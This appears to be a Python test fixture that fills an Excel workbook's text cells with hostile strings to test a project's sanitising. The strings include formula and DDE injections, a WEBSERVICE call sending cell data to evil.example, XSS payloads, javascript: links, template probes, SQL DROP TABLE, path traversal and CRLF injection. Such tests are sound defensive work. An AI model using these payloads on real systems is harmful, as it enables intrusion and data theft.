"""Texts that would like to be more than texts, and a workbook with them in every text column.

Whatever of them is run sets ``window.pwned``; whatever becomes an element of a page carries
``data-pwned`` or asks ``evil.example`` for something.
"""

import io
from dataclasses import replace

import openpyxl

from tests.real import sample
from zi_core.plan import Area, EvidenceItem, Plan
from zi_core.text import MAX_CELL_LENGTH, cell_length
from zi_core.workbook import write

LEADING = (
    # What spreadsheets take for a formula, bare and behind what is stripped off.
    '=HYPERLINK("http://evil.example","klik")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A1",
    "-1+1",
    "@SUM(1+1)",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "\t=2+2",
    "\r=3+3",
    "\n=4+4",
    "\u00a0=5+5",
    "\u202e=6+6",
    "<b>=7+7</b>",
    "_x003D_8+8",
    "_x0009_=9+9",
    "'=10+10",
    "{=11+11}",
    "\uff1d12+12",
    "#REF!",
    "#N/A",
    "TRUE",
    "1E5",
    "007",
    # What Markdown takes for structure at the beginning of a line.
    "# Judul",
    "> kutipan",
    "- butir",
    "1. nomor",
    "    kode",
    "| a | b |",
    "---",
    "```html",
    "$$\\int_0^1 x$$",
    ":material/home:",
    # What leaves an attribute or an element that it stands in.
    '" onmouseover="window.pwned=1',
    "' autofocus onfocus='window.pwned=1",
    "` onclick=window.pwned=1 `",
    '"><b data-pwned>lolos</b>',
    "</textarea><b data-pwned>lolos</b>",
    "</option></select></title><b data-pwned>lolos</b>",
    "--><b data-pwned>lolos</b>",
    "]]><b data-pwned>lolos</b>",
    "';window.pwned=1//",
    "</script><script>window.pwned=1</script>",
    "javascript:window.pwned=1",
    "' OR 1=1; DROP TABLE versions; --",
    "../../../etc/passwd",
)
"""Texts whose beginning counts; fewer than the plan has activities."""

ANYWHERE = (
    "<script>window.pwned=1</script>",
    "<ScRiPt\tsrc=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=window.pwned=1>",
    "<img data-pwned src=//evil.example/a.png>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    '<svg><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
    '<math><mtext><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<video><source onerror=window.pwned=1></video>",
    "<details open ontoggle=window.pwned=1>buka",
    "<form action=//evil.example><button formaction=javascript:window.pwned=1>kirim</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<b data-pwned>tebal</b> <b>hilang</b>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &amp;amp; &#60;b data-pwned&#62;",
    "![gambar](http://evil.example/x.png)",
    "[tautan](javascript:window.pwned=1) [lain](http://evil.example)",
    "<http://evil.example/auto> http://evil.example/begitu",
    "**tebal** _miring_ ~~coret~~ `kode` :red[merah] :smile:",
    "$x^2$ \\(y\\) \\[z\\] :material/delete:",
    # What Plotly makes of a label.
    '<a href="javascript:window.pwned=1">klik</a>',
    "<a href='http://evil.example' data-pwned>klik</a>",
    "atas<br>bawah<br />lagi",
    "H<sub>2</sub>O<sup>2</sup> <span style='font-size:90px'>besar</span>",
    "%{x} %{customdata[0]} %{fullData.name}<extra>lebih</extra>",
    # What templates and formats fill in.
    "{{7*7}} {% raw %} {# c #} {{ config }}",
    "${7*7} #{7*7} <%= 7*7 %> `${window.pwned=1}`",
    "{0.__class__} %(x)s %s {x!r} \\N{BULLET} \\u003cb\\u003e",
    # Characters that no one sees, or that turn others round.
    "\u202eterbalik\u202c \u2066kiri\u2069",
    "nol\u200blebar\ufeff\u00adlunak",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\u200d\u2620\ufe0f cafe\u0301",
    "a\u2028window.pwned=1\u2029b\u0085c",
    "_x001B_[31mmerah_x001B_[0m_x0007_ \u009b31mcsi",
    "_x0000_ _x000D__x000A_Versi 9 diterbitkan",
    "Z\u0351\u036b\u0343a\u0329\u0347l\u0321g\u0306o \ufdfd",
    "%3Cb data-pwned%3E %00 %0d%0aSet-Cookie: zi=1",
    "C:\\Windows\\System32 \\\\evil.example\\berbagi",
)
"""Texts that may do harm wherever they stand; fewer than the plan has activities."""

LINKS = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "  javascript:window.pwned=1",
    "java\tscript:window.pwned=1",
    "java\nscript:window.pwned=1",
    "_x0001_javascript:window.pwned=1",
    "\u200bjavascript:window.pwned=1",
    "javascript&colon;window.pwned=1",
    "javascript://http://evil.example/%0awindow.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "DATA:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\berbagi",
    "blob:http://evil.example/1",
    "https:javascript:window.pwned=1",
    'https://contoh.id/"onclick="window.pwned=1',
    "https://contoh.id/<b data-pwned>",
    "HTTPS://contoh.id/berkas?a=1&b=2",
    "http://contoh.id",
    '=HYPERLINK("http://evil.example")',
)
"""What may stand in TAUTAN; only those with ``//`` right behind ``http(s):`` are web addresses."""

LONG_WORD = "Panjang" * 60
OFFICE = "KPU <svg/onload=window.pwned=1> $x$ \"'><b data-pwned> ![x](http://evil.example/o.png)"
AREA = " ¦ ".join(ANYWHERE[::4])
FILE_NAME = (
    "\"'><img src=x onerror=window.pwned=1><b data-pwned> ![x](http:evil.example) "
    "[y](javascript:window.pwned=1) $x^2$ :smile: \u202excod.xlsx"
)
NOTE = (
    "=1+1 <img src=x onerror=window.pwned=1> ![x](http://evil.example/n.png) \x1b[2J\u202e\nbaris"
)
DISPLAY = "<svg/onload=window.pwned=1> [a](javascript:window.pwned=1) $x$ \"'><b data-pwned>"
LABEL = "<img src=x onerror=window.pwned=1> \"'><b data-pwned> ![x](http://evil.example/l)"

COLUMNS = ("component", "indicator", "action", "evidence", "team", "obstacle", "follow_up")
WORD_WITHOUT_END, LONGEST = "V.1.2", "V.2.2"
"""The activities with a word of 420 letters, and with texts as long as a cell holds."""


def text(row, column, turn=0):
    """The text of a row and a column: with every row another, and with every column."""
    at = row + 5 * column + 11 * turn
    return f"{LEADING[at % len(LEADING)]} {ANYWHERE[at % len(ANYWHERE)]}"


def longest(start):
    """A text as long as a cell holds, that begins with something."""
    filled = start + " <b data-pwned>" + " kata" * (MAX_CELL_LENGTH // 5)
    return filled[: MAX_CELL_LENGTH - 5] + " usai"


def hostile_workbook(turn=0, base: Plan | None = None, **stamp):
    """The sample's workbook with a hostile text in every text cell; and the texts by cell word.

    Filled in as a person would: the texts are put into the finished workbook. ``turn`` puts other
    texts into the same cells; ``stamp`` is what the workbook says it was issued from.
    """
    plan = base or sample()
    words, activities, items = {}, [], []
    rows = [a.code for a in plan.activities if str(a.code) not in (WORD_WITHOUT_END, LONGEST)]
    for activity in plan.activities:
        code, values = str(activity.code), {}
        row = rows.index(activity.code) if activity.code in rows else len(rows)
        for column, name in enumerate(COLUMNS):
            values[name] = word_of(activity.code, name, turn)
            words[values[name]] = text(row, column, turn)
            if code == WORD_WITHOUT_END:
                words[values[name]] = f"{name} {turn} {LONG_WORD}"
            if code == LONGEST and name != "team":
                words[values[name]] = longest(f"={turn}{name}")
        activities.append(replace(activity, **values))
        item = {name: word_of(activity.code, name, turn) for name in ("document", "link", "note")}
        words[item["document"]] = text(row, 8, turn)
        words[item["link"]] = LINKS[(row + turn) % len(LINKS)]
        words[item["note"]] = text(row, 9, turn)
        items.append(EvidenceItem(activity.code, activity.planned[0], **item))
    areas = []
    for area in plan.areas:
        areas.append(Area(area.number, f"ZZ{turn}{area.number}areaZZ"))
        words[areas[-1].name] = f"{AREA} {area.name}"
    words["ZZofficeZZ"] = OFFICE
    changed = replace(
        plan,
        sample=False,
        office="ZZofficeZZ",
        areas=areas,
        activities=activities,
        evidence_items=items,
    )
    return filled_in(write(changed, **stamp), words), words


def word_of(code, name, turn=0):
    """What stands for a text until the workbook is made: no part of another such word."""
    return f"ZZ {turn} {code} {name} ZZ"


def filled_in(content, words):
    """A workbook with words replaced by texts, in its cells and its stamp."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book:
        for cells in sheet.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str) and "ZZ" in cell.value:
                    put(cell, cell.value, words)
    for stamp in book.custom_doc_props.props:
        if isinstance(stamp.value, str):
            for word, replacement in words.items():
                stamp.value = stamp.value.replace(word, replacement)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def put(cell, value, words):
    """Put a text into a cell past the setter, which cuts and refuses."""
    for word in filter(value.__contains__, words):
        value = value.replace(word, words[word])
    assert cell_length(value) <= MAX_CELL_LENGTH + 200
    cell._value, cell.data_type = value, "s"
    if cell.hyperlink:
        cell.hyperlink = None
